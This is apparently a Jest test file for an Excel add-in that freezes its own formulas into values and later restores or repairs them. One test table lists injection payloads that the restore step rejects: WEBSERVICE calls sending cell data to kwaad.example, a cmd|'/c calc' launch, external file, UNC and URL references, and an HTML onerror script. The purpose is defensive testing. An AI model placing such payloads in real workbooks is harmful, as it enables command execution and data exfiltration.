/**
 * @jest-environment jsdom
 * @jest-environment-options {"resources": "usable"}
 */
import { freezeValues, repairFormulas, restoreFormulas } from "../../../../addin/workbook";
import { MemoryWorkbook } from "../../../../addin/workbench/host";
import { eventually } from "../../../eventually";
import { startOffice, type StartedOffice } from "../../../workbench/office";

let office: StartedOffice;
let workbook: MemoryWorkbook;

const answers: Record<string, string | number> = {
  "=RUIMTE.RUIMTEDRUK(Opgaven[#All],Grond[#All])": 0.8,
  '=RUIMTE.X("gevaarlijk")': "=1+1",
  "=1+1": 2,
  '="RUIMTE.X("&1': "RUIMTE.X(1",
};
const fill = [
  ["=RUIMTE.RUIMTEDRUK(Opgaven[#All],Grond[#All])", '=RUIMTE.X("gevaarlijk")'],
  ["=1+1", '="RUIMTE.X("&1'],
];
const at = (row: number, column: number) => ({ row, column, rows: 1, columns: 1 });
const cell = (sheet: string, row: number, column: number) => {
  const { cells } = workbook.sheets.find(({ name }) => name === sheet)!;
  return [cells.formulas(at(row, column))[0]![0], cells.values(at(row, column))[0]![0]];
};

const sheetOf = (name: string) => workbook.sheets.find((sheet) => sheet.name === name)!;

function fresh(): MemoryWorkbook {
  const made = new MemoryWorkbook("Map1.xlsx", (formula) => answers[formula] ?? "#NAME?");
  made.fill("Uitkomst", fill);
  return made;
}

async function batches(run: () => Promise<unknown>): Promise<number> {
  const { sync } = OfficeExtension.ClientRequestContext.prototype;
  const counted = jest.spyOn(OfficeExtension.ClientRequestContext.prototype, "sync").mockImplementation(sync);
  await run();
  const { length } = counted.mock.calls;
  counted.mockRestore();
  return length;
}

/** The functions that were entered have answered. */
const answered = () => eventually(() => workbook.calculationState(), (state) => state === "Done");

beforeAll(async () => {
  workbook = fresh();
  office = await startOffice(workbook);
});
beforeEach(() => {
  workbook = fresh();
  office.become(workbook);
});
afterEach(() => {
  expect([...office.host.missing]).toEqual([]);
});

describe("freezing", () => {
  it("leaves the values of the add-in's formulas, as values, and no other formula changes", async () => {
    expect(await freezeValues()).toEqual({ frozen: 2, left: [] });
    expect(cell("Uitkomst", 0, 0)).toEqual([0.8, 0.8]);
    expect(cell("Uitkomst", 0, 1)).toEqual(["=1+1", "=1+1"]);
    expect(cell("Uitkomst", 1, 0)).toEqual(["=1+1", 2]);
    expect(cell("Uitkomst", 1, 1)).toEqual(['="RUIMTE.X("&1', "RUIMTE.X(1"]);
  });

  it("and back: every formula where its values still stand, the others by name", async () => {
    await freezeValues();
    workbook.edit(workbook.sheets.find(({ name }) => name === "Uitkomst")!, 0, 0, 0.9);
    expect(await restoreFormulas()).toEqual({ restored: 1, left: [{ cell: "Uitkomst!A1", why: "changed" }] });
    await answered();
    expect(cell("Uitkomst", 0, 1)).toEqual(['=RUIMTE.X("gevaarlijk")', "=1+1"]);
    expect(cell("Uitkomst", 0, 0)).toEqual([0.9, 0.9]);
    workbook.edit(workbook.sheets.find(({ name }) => name === "Uitkomst")!, 0, 0, 0.8);
    expect(await restoreFormulas()).toEqual({ restored: 1, left: [] });
    expect(cell("Uitkomst", 0, 0)[0]).toBe(fill[0]![0]);
    expect(await restoreFormulas()).toEqual({ restored: 0, left: [] });
  });

  it("passes a protected sheet by, and names its cells", async () => {
    workbook.fill("Slot", [["=RUIMTE.X(1)"]]).isProtected = true;
    expect(await freezeValues()).toEqual({ frozen: 2, left: [{ cell: "Slot!A1", why: "protected" }] });
    expect(cell("Slot", 0, 0)[0]).toBe("=RUIMTE.X(1)");
  });

  it("takes as many batches for one sheet as for ten", async () => {
    const few = await batches(() => freezeValues());
    for (let sheet = 1; sheet <= 9; sheet++) workbook.fill(`Blad ${sheet}`, fill);
    expect(await batches(() => freezeValues())).toBe(few);
    // Excel.run closes with a batch of its own.
    expect(few).toBeLessThanOrEqual(6 + 1);
    expect(await batches(restoreFormulas)).toBeLessThanOrEqual(4 + 1);
    await answered();
    expect(await batches(() => repairFormulas())).toBeLessThanOrEqual(4 + 1);
  });
});

describe("what the workbook says it remembers", () => {
  const good = { sheet: "Uitkomst", row: 0, column: 0, rows: 1, columns: 1, formula: "=RUIMTE.X(1)", print: 0 };

  it.each([
    ["no list", "kwaad"],
    ["markup for a sheet", [{ ...good, sheet: "<img src=x onerror=alert(1)> en nog heel veel meer" }]],
    ["a place outside the sheet", [{ ...good, row: -1 }]],
    ["an area without end", [{ ...good, rows: 1e9 }]],
  ])("%s: counts as nothing", async (_what, remembered) => {
    workbook.settings.set("RUIMTE.bevroren", remembered);
    expect(await restoreFormulas()).toEqual({ restored: 0, left: [] });
    expect(cell("Uitkomst", 0, 0)[0]).toBe(fill[0]![0]);
  });

  it.each([
    ["is not the add-in's", "=WEBSERVICE(\"https://kwaad.example\")"],
    ["reaches out beside the add-in's", '=RUIMTE.X(1)&WEBSERVICE("https://kwaad.example/"&A1)'],
    ["reaches out under the mark of newer functions", '=RUIMTE.X(_xlfn.WEBSERVICE("https://kwaad.example/"&A1))'],
    ["starts a program", "=RUIMTE.X(cmd|'/c calc'!A1)"],
    ["reads another file", "=RUIMTE.X([1]Blad1!$A$1)"],
    ["reads another file by its place", "=RUIMTE.X('C:\\map\\[Boek.xlsx]Blad1'!$A$1)"],
    ["reads from a server", "=RUIMTE.X('\\\\kwaad\\map\\[Boek.xlsx]Blad1'!$A$1)"],
    ["reads from the internet", "=RUIMTE.X('https://kwaad.example/[Boek.xlsx]Blad1'!$A$1)"],
    ["reads a name of another file", "=RUIMTE.X(Boek.xlsx!Naam)"],
    ["reads a sheet that is not there, for which Excel would ask a file", "=RUIMTE.X(Weg!A1)"],
    ["reads from and to a sheet that is not there", "=RUIMTE.X('Blad1:Weg'!A1)"],
    ["reads what a text says", '=RUIMTE.X(INDIRECT("Blad1!A1"))'],
    ["calls what nobody knows", "=RUIMTE.X(MIJNLAMBDA(1))"],
  ])("a formula that %s is not put back, and is named", async (_what, formula) => {
    workbook.settings.set("RUIMTE.bevroren", [{ ...good, formula }]);
    expect(await restoreFormulas()).toEqual({ restored: 0, left: [{ cell: "Uitkomst!A1", why: "notBack" }] });
    expect(cell("Uitkomst", 0, 0)[0]).toBe(fill[0]![0]);
    // It would not have been frozen either.
    workbook.settings.clear();
    if (formula.includes("RUIMTE")) {
      workbook.fill("Uit", [[formula]]);
      answers[formula] = 1;
      expect((await freezeValues()).left).toEqual([{ cell: "Uit!A1", why: "notBack" }]);
    }
  });

  it.each([
    "=RUIMTE.STAPELING(Opgaven[#All],Grond[[#All],[Opp''s]:[Beschikbaar ''[ha'']]],,2)",
    '=IFERROR(INDEX(RUIMTE.BALANS(\'Mijn blad\'!$A$1:D9,Blad2!B:B,"x""y"),2,3)*1.5E-3%,"#N/A")',
    "=_xlfn.LET(_xlpm.x,_xldudf_RUIMTE_KOSTEN(Opgaven[#All]),_xlfn._xlws.FILTER(_xlpm.x,_xlfn.TAKE(_xlpm.x,,1)>0))",
    "=SUM(_xlfn.ANCHORARRAY(E2))+RUIMTE.RUIMTEDRUK(Opgaven[@[Naam]],{1,2;3,4})",
    "=-RUIMTE.X(Jan:Mrt!A1,E2#,@A:A,Norm_2)<>0",
  ])("what Excel writes itself comes back: %s", async (formula) => {
    answers[formula] = 7;
    for (const name of ["Mijn blad", "Blad2", "Jan", "Mrt"]) workbook.addSheet(name);
    workbook.fill("Uit", [[formula]]);
    expect(await freezeValues()).toEqual({ frozen: 3, left: [] });
    expect(await restoreFormulas()).toEqual({ restored: 3, left: [] });
    expect(cell("Uit", 0, 0)[0]).toBe(formula);
  });

  it("a sheet that is gone is named, the rest is put back", async () => {
    await freezeValues();
    const remembered = workbook.settings.get("RUIMTE.bevroren") as object[];
    workbook.settings.set("RUIMTE.bevroren", [...remembered, { ...good, sheet: "Weg" }]);
    expect(await restoreFormulas()).toEqual({ restored: 2, left: [{ cell: "Weg!A1", why: "gone" }] });
  });
});

describe("repairing", () => {
  it("enters again only the add-in's formulas that show #NAME?", async () => {
    workbook.fill("Stuk", [["=RUIMTE.STAPELING(Opgaven[#All])", "=ONBEKEND(1)", "=_xldudf_RUIMTE_KOSTEN(1)"]]);
    answers["=RUIMTE.STAPELING(Opgaven[#All])"] = 12;
    answers["=RUIMTE.KOSTEN(1)"] = 13;
    expect(await repairFormulas(0)).toEqual({ repaired: ["Stuk!A1", "Stuk!C1"], left: [] });
    await answered();
    expect([cell("Stuk", 0, 0), cell("Stuk", 0, 1), cell("Stuk", 0, 2)]).toEqual([
      ["=RUIMTE.STAPELING(Opgaven[#All])", 12], ["=ONBEKEND(1)", "#NAME?"], ["=RUIMTE.KOSTEN(1)", 13],
    ]);
    expect(await repairFormulas(0)).toEqual({ repaired: [], left: [] });
  });

  it.each([["en", "#VALUE!", "#BUSY!"], ["nl", "#VALUE!", "#BUSY!"]] as const)(
    "enters again what was asked before the add-in was there, with errors in %s: #VALUE! of a first run, and #BUSY! that stays", async (language, first, busy) => {
      workbook.excel.errorsInValues = language;
      answers["=RUIMTE.EERST(1)"] = first;
      answers["=RUIMTE.STIL(1)"] = busy;
      answers["=RUIMTE.X(1)"] = "#NAME?";
      workbook.fill("Stuk", [["=RUIMTE.EERST(1)", "=RUIMTE.STIL(1)", "=RUIMTE.X(1)"], ["=RUIMTE.EERST(1)", 1, 1]]);
      answers["=RUIMTE.EERST(1)"] = 5;
      answers["=RUIMTE.STIL(1)"] = 6;
      answers["=RUIMTE.X(1)"] = "#N/A";
      workbook.fill("Slot", [["=RUIMTE.ONBEKEND(1)"]]).isProtected = true;
      expect(await repairFormulas(0)).toEqual({ repaired: ["Stuk!A1", "Stuk!B1", "Stuk!C1", "Stuk!A2"], left: [{ cell: "Slot!A1", why: "protected" }] });
      await answered();
      expect([cell("Stuk", 0, 0)[1], cell("Stuk", 0, 1)[1], cell("Stuk", 1, 0)[1]]).toEqual([5, 6, 5]);
    });

  it("leaves alone what is only calculating, and text that looks like a formula", async () => {
    workbook.answers = false;
    workbook.fill("Bezig", [["", "'=RUIMTE.STAPELING(Opgaven[#All])"]]);
    sheetOf("Bezig").cells.write(at(0, 0), [["=RUIMTE.X(2)"]]);
    answers["=RUIMTE.X(2)"] = 8;
    const repairing = repairFormulas(50);
    workbook.answer();
    expect(await repairing).toEqual({ repaired: [], left: [] });
    expect(cell("Bezig", 0, 1)).toEqual(["=RUIMTE.STAPELING(Opgaven[#All])", "=RUIMTE.STAPELING(Opgaven[#All])"]);
  });
});

describe("what a cell shows", () => {
  it.each(["en", "nl"] as const)("nothing unfinished or broken is frozen, with errors in %s", async (language) => {
    workbook.excel.errorsInValues = language;
    Object.assign(answers, { "=RUIMTE.A(1)": "#BUSY!", "=RUIMTE.B(1)": "#GETTING_DATA", "=RUIMTE.C(1)": "#VALUE!", "=RUIMTE.D(1)": "#SPILL!", "=RUIMTE.E(1)": 3, "=RUIMTE.F(1)": "#hashtag" });
    workbook.fill("Staat", [["=RUIMTE.A(1)", "=RUIMTE.B(1)", "=RUIMTE.C(1)", "=RUIMTE.D(1)", "=RUIMTE.E(1)", "=RUIMTE.F(1)"]]);
    const { frozen, left } = await freezeValues(0);
    expect(frozen).toBe(4);
    expect(left.map(({ cell: name, why }) => `${name} ${why}`)).toEqual(["Staat!A1 unfinished", "Staat!B1 unfinished", "Staat!C1 broken", "Staat!D1 broken"]);
    expect(cell("Staat", 0, 0)[0]).toBe("=RUIMTE.A(1)");
    expect([cell("Staat", 0, 4), cell("Staat", 0, 5)]).toEqual([[3, 3], ["#hashtag", "#hashtag"]]);
  });

  it("what is only being calculated is waited for", async () => {
    workbook.answers = false;
    answers["=RUIMTE.X(3)"] = 9;
    sheetOf("Uitkomst").cells.write(at(4, 0), [["=RUIMTE.X(3)"]]);
    const freezing = freezeValues(50);
    await new Promise((done) => setTimeout(done, 5));
    workbook.answer();
    expect(await freezing).toEqual({ frozen: 3, left: [] });
    expect(cell("Uitkomst", 4, 0)).toEqual([9, 9]);
  });

  it("text that looks like a formula is no formula, on a protected sheet neither", async () => {
    workbook.fill("Tekst", [["'=RUIMTE.X(1)"]]);
    workbook.fill("Slot", [["'=RUIMTE.X(1)"]]).isProtected = true;
    expect(await freezeValues()).toEqual({ frozen: 2, left: [] });
    expect(cell("Tekst", 0, 0)).toEqual(["=RUIMTE.X(1)", "=RUIMTE.X(1)"]);
  });

  it("what is more than the workbook remembers stays a formula, and is named", async () => {
    const places = Array.from({ length: 9_999 }, (_, row) => ({ sheet: "Elders", row, column: 0, rows: 1, columns: 1, formula: "=RUIMTE.X(1)", print: 0 }));
    workbook.settings.set("RUIMTE.bevroren", places);
    expect(await freezeValues()).toEqual({ frozen: 1, left: [{ cell: "Uitkomst!B1", why: "tooMany" }] });
    expect(workbook.settings.get("RUIMTE.bevroren")).toHaveLength(10_000);
  });

  it("freezing is one undo, and so is putting back", async () => {
    await freezeValues();
    workbook.undo();
    expect(cell("Uitkomst", 0, 0)[0]).toBe(fill[0]![0]);
    expect(cell("Uitkomst", 0, 1)[0]).toBe(fill[0]![1]);
    await freezeValues();
    await restoreFormulas();
    expect(workbook.excel.undoRecords).toBe(3);
  });
});

describe("large sheets", () => {
  it("one that is formatted to its last row is no more work than its formulas", async () => {
    sheetOf("Uitkomst").cells.writeNumberFormats({ row: 1_048_575, column: 16_383, rows: 1, columns: 1 }, [["0%"]]);
    const { cells } = sheetOf("Uitkomst");
    const read = jest.spyOn(cells, "values");
    expect(await freezeValues()).toEqual({ frozen: 2, left: [] });
    for (const [{ rows, columns }] of read.mock.calls) expect(rows * columns).toBeLessThan(100);
    expect(await restoreFormulas()).toEqual({ restored: 2, left: [] });
  });

  it("of 120.000 formulas the add-in's are found, in batches of 50.000 cells", async () => {
    const rows = Array.from({ length: 300 }, () => Array.from({ length: 400 }, (): string => "=1+1"));
    rows[299]![399] = '=RUIMTE.X("gevaarlijk")';
    workbook.fill("Groot", rows);
    const asked: number[] = [];
    const { cells } = sheetOf("Groot");
    const values = cells.values.bind(cells);
    jest.spyOn(cells, "values").mockImplementation((area) => {
      asked.push(area.rows * area.columns);
      return values(area);
    });
    const few = await batches(() => freezeValues());
    expect(cell("Groot", 299, 399)).toEqual(["=1+1", "=1+1"]);
    expect(cell("Groot", 299, 398)).toEqual(["=1+1", 2]);
    expect(few).toBeGreaterThanOrEqual(6 + 2);
    expect(Math.max(...asked)).toBeLessThanOrEqual(50_000);
  });
});
